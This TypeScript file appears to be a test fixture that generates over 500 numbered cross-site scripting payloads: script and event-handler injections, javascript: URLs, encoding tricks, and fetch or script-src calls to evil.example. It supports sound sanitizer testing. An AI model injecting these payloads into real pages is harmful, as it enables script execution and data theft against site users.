// Texts that run as a script wherever a page forgets that they are text. `HERE` becomes a number, by
// which a hit tells which payload it was: each either opens a dialog, sets a mark, or asks evil.example.

const RUN = ['alert(HERE)', 'window.junbiXss=HERE', "fetch('//evil.example/HERE')"];

const frames: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script src=//evil.example/HERE></script><!--${run}-->`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `" onfocus=${run} autofocus x="`,
  (run) => `' onfocus=${run} autofocus x='`,
  (run) => `" onmouseover="${run}" style="position:fixed;inset:0" x="`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  (run) => `<math><mtext></mtext><style><img src=x onerror=${run}></style></math>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<a href=" java\tscript:${run}">x</a>`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<input onfocus=${run} autofocus>`,
  (run) => `<select onfocus=${run} autofocus>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<style>@import '//evil.example/HERE';</style>${run}`,
  (run) => `<link rel=stylesheet href=//evil.example/HERE>${run}`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href=//evil.example/>${run}`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `</textarea><img src=x onerror=${run}>`,
  (run) => `</title><img src=x onerror=${run}>`,
  (run) => `</option></select><img src=x onerror=${run}>`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `&#60;img src=x onerror=${run}&#62;`,
  (run) => `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  (run) => `＜img src=x onerror=${run}＞`,
  (run) => `"]);${run};//`,
  (run) => `'-${run}-'`,
  (run) => `\`-${run}-\``,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `javascript:${run}//`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `\u2028${run}\u2029`,
  (run) => `--><script>${run}</script><!--`,
  (run) => `*/${run}/*`,
];

const dresses: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `守秘${text}規程`,
  (text) => text.replaceAll('onerror', 'OnErRoR').replaceAll('<img', '<iMg/'),
];

/** More than 500 different texts, numbered. */
export const corpus: readonly string[] = frames
  .flatMap((frame) => RUN.flatMap((run) => dresses.map((dress) => dress(frame(run)))))
  .map((text, at) => text.replaceAll('HERE', String(at + 1)));
